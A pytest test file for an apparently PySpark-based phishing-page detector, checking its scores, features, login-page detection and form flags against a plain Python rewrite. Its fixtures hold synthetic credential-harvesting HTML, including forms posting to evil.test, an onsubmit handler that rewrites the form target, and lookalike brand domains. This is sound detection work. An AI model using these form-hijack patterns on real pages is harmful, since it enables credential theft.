"""The whole scan of every page against a plain rewrite in Python, with the real phrases, and on pages made to hold what the table lacks."""

import re
from html.parser import HTMLParser
from urllib.parse import urljoin, urlparse

import pytest
from pyspark.sql import functions as F

from wardline.functions import fixed
from wardline.functions.urls import rule_url_score, url_evidence, url_features
from wardline.operators import pages, robustness, scoring
from wardline.sources.elements import page_elements

MADE = [
    ("https://secure.paypal-check.com/login", '<title> Pay </title><body><form action="https://evil.test/x"><input type="text" name="username"><input type="password"></form>Verify your account now, urgent: payment by credit card to paypal.</body>'),
    ("http://bank.test/a/b?x=1", '<p>sign-in pass-word</p><form action="../go"><input type="email"></form><form></form><iframe src="//other.test"></iframe>' + '<a href="//far.test/x">f</a>' * 17),
    ("http://a.test/", '<p style="display: none">password password</p><div aria-hidden="true"><form action="http://b.test"></form><script>1</script></div><p>hello  world\n next</p>'),
    ("http://a.test", "<form onsubmit=\"this.action='https://evil.test/a'; return true;\" action='/x'></form><button onclick=\"window.location.href='http://c.test/'\">go</button>" + "<script>x</script>" * 31),
    ("http://a.test/x", "<input type='text' style='-webkit-text-security: disc'><p>don't wait, act now! last chance. verify now. login log in sign in user email access portal</p>"),
    ("http://google.com.evil.test", "<title></title><p>google facebook wells fargo bank of america</p><a href='mailto:x@y.z'>m</a><a href='#top'>t</a><a href=''>e</a>"),
    ("http://e.test/", None), ("http://e.test/", "  "), ("", "<p>password</p>"), (None, "<p>x</p>"),
]


class Plain(HTMLParser):
    void = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source", "track", "wbr"}

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.stack, self.tags, self.texts, self.title = [], [], [], None
        self.feed(html or "")
        self.close()

    def state(self):
        return self.stack[-1][1:] if self.stack else (False, False)

    def handle_starttag(self, tag, attrs):
        own = {}
        for k, v in attrs:
            own.setdefault(k, v or "")
        hidden, raw = self.state()
        hidden = hidden or re.search(r"display:\s*none", own.get("style", ""), re.I) is not None or own.get("aria-hidden") == "true"
        raw = raw or tag in ("script", "style", "noscript")
        self.tags.append((tag, own, not hidden and not raw))
        if tag not in self.void:
            self.stack.append((tag, hidden, raw))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag):
        if tag in [x[0] for x in self.stack]:
            while self.stack.pop()[0] != tag:
                pass

    def handle_data(self, data):
        hidden, raw = self.state()
        if not hidden and not raw:
            self.texts.append(data)
            if self.stack and self.stack[-1][0] == "title" and self.title is None and data.strip():
                self.title = data.strip()


def plain_page(url, html):
    """The page features of the rule scan."""
    p = Plain(html)
    shown = [(t, a) for t, a, ok in p.tags if ok]
    text = re.sub("([a-zA-Z])-([a-zA-Z])", r"\1\2", " ".join(p.texts))
    text = " ".join(c for line in text.splitlines() for c in line.strip().split("  ") if c)[:5000]
    low, own = text.lower(), urlparse(url).netloc.lower()
    actions, links = [], []
    for t, a in shown:
        if t == "form":
            found = re.search(r"this\.action\s*=\s*['\"]([^'\"]+)['\"]", a.get("onsubmit", "").lower())
            actions.append(found[1] if found else a.get("action", ""))
        if t == "a":
            links.append(a.get("href", ""))
        if t == "button":
            found = re.search(r"window\.location\.href\s*=\s*['\"]([^'\"]+)['\"]", a.get("onclick", ""))
            links.append(found[1] if found else "")
    inputs = [a for t, a in shown if t == "input"]
    out = {
        "page_title": p.title, "text_length": len(text), "forms": sum(t == "form" for t, _ in shown), "iframes": sum(t == "iframe" for t, _ in shown), "scripts": sum(t == "script" for t, _, _ in p.tags),
        "password_fields": sum(a.get("type") == "password" for a in inputs) + sum(a.get("type") == "text" and "text-security" in a.get("style", "").lower() for a in inputs),
        "text_email_fields": sum(a.get("type") in ("text", "email") for a in inputs), "form_actions": [urljoin(url, x) for x in actions if x],
        "external_links": sum(urlparse(urljoin(url, x)).netloc.lower() not in ("", own) for x in links if x),
    }
    for bank, phrases in fixed.PAGE_WORDS.items():
        out[f"{bank}_indicators"] = sum(len(re.findall(r"(?<!\w)" + re.escape(x) + r"(?!\w)", low)) for x in phrases)
    return out, own


def plain_scores(f, own, impersonation):
    w, at = fixed.PAGE_WEIGHTS, fixed.PAGE_LIMITS
    hosts = [h for h in (urlparse(a).netloc.lower() for a in f["form_actions"]) if h and h != own]
    points = w["password_field"] * (f["password_fields"] > 0) + w["external_form_action"] * bool(hosts) + w["credential_form"] * (f["forms"] > 0 and f["credential_indicators"] >= at["credential"])
    points += w["urgency"] if f["urgency_indicators"] >= at["urgency_high"] else w["urgency"] // 2 if f["urgency_indicators"] >= at["urgency_any"] else 0
    points += w["payment"] * (f["payment_indicators"] >= at["payment"])
    points += w["login_high"] if f["login_indicators"] >= at["login_high"] else w["login_some"] if f["login_indicators"] >= at["login_some"] else 0
    points += w["brand_mismatch"] * (f["brand_indicators"] > 0 and impersonation >= 0.5) + w["iframe"] * (f["iframes"] > 0) + w["external_links"] * (f["external_links"] >= at["external_links"])
    told = []
    say = lambda cond, text: told.append(text) if cond else None
    say(f["password_fields"] > 0, f"Password input field(s) detected on page ({f['password_fields']}).")
    say(f["forms"] > 0 and f["credential_indicators"] > 0, f"Login/credential form detected ({f['forms']} form(s), {f['credential_indicators']} credential keyword(s)).")
    say(f["forms"] > 0 and f["credential_indicators"] == 0, f"Form(s) detected on page ({f['forms']}).")
    told += [f"Form submits data to an external domain ({h})." for h in hosts]
    login, urgency = f["login_indicators"], f["urgency_indicators"]
    say(login > 6, f"High density of login-related language on page ({login} occurrences).")
    say(0 < login <= 6, f"Login-related content detected ({login} occurrences).")
    say(urgency > 3, f"Strong urgency / deception language on page ({urgency} occurrences).")
    say(0 < urgency <= 3, f"Urgency-related language detected ({urgency} occurrences).")
    say(f["payment_indicators"] > 2, f"Payment / financial content detected ({f['payment_indicators']} occurrences).")
    say(f["brand_indicators"] > 0 and impersonation >= 0.5, f"Brand name mentioned on page while domain appears to impersonate it ({f['brand_indicators']} mention(s)).")
    say(f["iframes"] > 0, f"Iframe(s) detected ({f['iframes']}) — can embed hidden content.")
    say(f["external_links"] > 15, f"Unusually high number of external links ({f['external_links']}) — possible cloaking.")
    say(f["scripts"] > 30, f"High script count ({f['scripts']}) — complex client-side behaviour.")
    return min(points, 100), told


@pytest.fixture(scope="module")
def table(spark, sf_dir):
    made = spark.createDataFrame([(10_000 + i, u, h) for i, (u, h) in enumerate(MADE)], "page_id long, url string, html string")
    return spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id", "url", "html").unionByName(made).cache()


def test_scan_of_every_page(spark, table):
    sides = rule_url_score(url_evidence(url_features(table.select("page_id", F.col("url"))))).select("page_id", "structural_score", "brand_impersonation_score", "structural_evidence")
    by_url = {r["page_id"]: r for r in sides.collect()}
    rows = {r["page_id"]: r for r in table.collect()}
    got = scoring.scan(table).collect()
    assert len(got) == len(rows)
    for r in got:
        page, side = rows[r["page_id"]], by_url[r["page_id"]]
        has = bool((page["html"] or "").strip())
        f, own = plain_page(r["url"], page["html"])
        assert {k: r["page_features"][k] for k in f} == f, page["url"]
        points, told = plain_scores(f, own, side["brand_impersonation_score"])
        score = side["structural_score"]
        risk = round(0.6 * score + 0.4 * points) if has else score
        assert (r["semantic_score"], r["structural_score"], r["risk_score"]) == (points, score, risk), page["url"]
        assert r["verdict"] == ("PHISHING" if risk >= 60 else "SUSPICIOUS" if risk >= 30 else "SAFE")
        note = [] if has else [scoring.NOTE[bool(side["structural_evidence"])]]
        assert r["reasons"] == [*side["structural_evidence"], *(told if has else []), *note], page["url"]


def test_context_features_and_login_pages_of_every_page(spark, table):
    hosts = {h for own in fixed.TRUSTED.values() for h in own}
    got = {r["page_id"]: r for r in pages.context_features(pages.analysed_pages(table)).collect()}
    logins = {r["page_id"]: r["is_login_page"] for r in pages.login_page(page_elements(table)).collect()}
    for r in table.where("url IS NOT NULL AND url <> ''").collect():
        g, (f, _) = got[r["page_id"]], plain_page(r["url"], r["html"])
        host = (urlparse(r["url"]).hostname or "").lower()
        base = ".".join(host.split(".")[-2:])
        safe = host in hosts or base in hosts
        origin = 0.0 if any(n and not n.endswith(base) for n in (urlparse(a).netloc.lower() for a in f["form_actions"])) else 1.0
        brand = f["brand_indicators"]
        fits = 1.0 if brand == 0 or safe else 0.0
        want = (float(safe), origin, fits, f["external_links"] / (f["forms"] + 1), f["text_length"] / (f["scripts"] + 1), (f["password_fields"] + f["credential_indicators"]) / (f["text_length"] / 1000 + 1), fits * safe + (1 - brand / (brand + 10)) * origin)
        assert [g[c] for c in ("trusted_domain", "form_action_same_origin", "domain_brand_consistency", "link_to_form_ratio", "text_to_script_ratio", "credential_density", "brand_context_score")] == pytest.approx(want)
        p = Plain(r["html"])
        inputs = [a for t, a, _ in p.tags if t == "input"]
        text, address = " ".join(p.texts).lower(), r["url"].lower()
        holds = lambda a, k, ws: any(x in a.get(k, "").lower() for x in ws)
        user = any(a.get("type", "").lower() == "email" or holds(a, "name", ("email", "user", "login")) or holds(a, "placeholder", ("email", "username")) for a in inputs)
        form = any(t == "form" for t, *_ in p.tags) and any(a.get("type", "").lower() == "email" or (a.get("type", "").lower() == "text" and (holds(a, "name", ("user", "email")) or holds(a, "placeholder", ("email", "username")))) for a in inputs)
        told = any(x in address for x in fixed.LOGIN_ADDRESS_WORDS) and (user or any(x in text for x in fixed.LOGIN_BUTTON_WORDS))
        assert logins[r["page_id"]] == (any(a.get("type", "").lower() == "password" for a in inputs) or told or form), r["url"]


def test_form_flags_and_points(spark):
    rows = [(1, "http://a.test/", '<form action="https://evil.test/x"></form><form action="/own"></form><form action="http://10.1.2.3/a"></form>'), (2, "a.test", '<form action="http://a.test/y"></form><form></form>'), (3, None, None)]
    flagged = scoring.form_target_flags(page_elements(spark.createDataFrame(rows, "page_id int, url string, html string")))
    got = {r["page_id"]: r for r in scoring.threat_score(flagged, form_flags="suspicious_forms").collect()}
    assert got[1]["form_flags"] == ["Credential Harvesting: Form submits to 'evil.test'", "Credential Harvesting: Form submits to '10.1.2.3'", "Form action targets raw IP address"]
    assert got[2]["form_flags"] == got[3]["form_flags"] == [] and got[1]["rule_points"] == 60 and got[2]["rule_points"] == 20
    modelled = scoring.threat_score(flagged.withColumn("p", F.lit(0.9)), model_probability="p", form_flags="suspicious_forms").where("page_id = 1").first()
    assert modelled["threat"] == int(0.7 * 90 + 0.3 * 60)


def test_links_resolve_like_the_standard_library(spark):
    links = ["x", "./x", "../x", "../../x", "../../../x", "/a/../b", "/./a/.", "a//b", "..", ".", "?q=1", "#f", "//h.test/p", "http://k.test", "mailto:a@b", "x/y/../z?u=..#v", "/"]
    bases = ["http://a.test/b/c/d?e=f", "http://a.test/b/c/", "http://a.test", "http://a.test/b"]
    df = spark.createDataFrame([(b, x) for b in bases for x in links], "page string, link string")
    for r in df.select("*", pages.resolved(F.col("link"), F.col("page")).alias("got")).collect():
        assert r["got"] == urljoin(r["page"], r["link"]), (r["page"], r["link"])


def test_alignment(spark):
    df = spark.createDataFrame([(60, 0.6), (50, 0.9), (90, 0.5), (None, 0.9)], "s int, p double").select(scoring.alignment(F.col("s"), F.col("p")).alias("x"))
    assert [r["x"] for r in df.collect()] == [1, 0, 0, 0]


def test_changed_features_are_those_of_changed_pages(spark, sf_dir):
    """By what a change touches, and by analysing every changed page whole: the same rows."""
    made = [
        (901, "https://a.example.com/x", "<html><head><title>Log-in: password</title></head><body><p>Verify your account, urgent payment. PASSWORD pass-word</p><form action='/go'><input type=password><input type=text name=u></form><a href=\"http://o.example/it's\">sign in</a><a href='/y'>b</a><script>login</script><p style='display:none'>password</p></body></html>"),
        (902, "http://b.example.org/", "no markup password"), (903, "http://c.example.org/", None), (904, None, "<title>username</title>"), (905, "http://d.example.org/q", "<body>" + "login password " * 20_000 + "</body>"),
        (906, "http://e.example.org/q", "<body>password</body>"), (907, "http://f.example.org/", "<p>" + "x" * 5_200 + "</p>"),
    ]
    df = spark.createDataFrame(made, "page_id long, url string, html string").unionByName(spark.read.parquet(f"{sf_dir}/pages.parquet"))
    elements = page_elements(df).persist()
    columns = ["page_id", "perturbation", "url", "html_available", "page_title", "text_length", "password_fields", "text_email_fields", "forms", "form_actions", "has_external_form_action", "external_links", "iframes", "scripts"]
    columns += [f"{b}_indicators" for b in fixed.PAGE_WORDS] + ["steps", "url_changed", "length_change", "valid"]
    whole = pages.page_features(robustness.perturb_pages(elements, clean=True)).select(*columns)
    short = robustness.changed_page_features(elements, clean=True).select(*columns)
    key = lambda df: sorted(map(str, df.collect()))
    assert key(short) == key(whole)
    assert set(robustness.TOUCHED) == set(robustness.PAGE_CHANGES)
    elements.unpersist()


def test_large_pages_take_every_change(spark):
    made = [(1, "http://a.example.org/", "<body>" + "login password " * 40_000 + "</body>"), (2, "http://b.example.org/", "<body><p>password</p></body>")]
    elements = page_elements(spark.createDataFrame(made, "page_id long, url string, html string"))
    wanted = {(i, n) for i in (1, 2) for n in (*robustness.PAGE_CHANGES, robustness.CLEAN)}
    for out in (robustness.perturb_pages(elements, clean=True), robustness.changed_page_features(elements, clean=True)):
        assert {(r["page_id"], r["perturbation"]) for r in out.select("page_id", "perturbation").collect()} == wanted
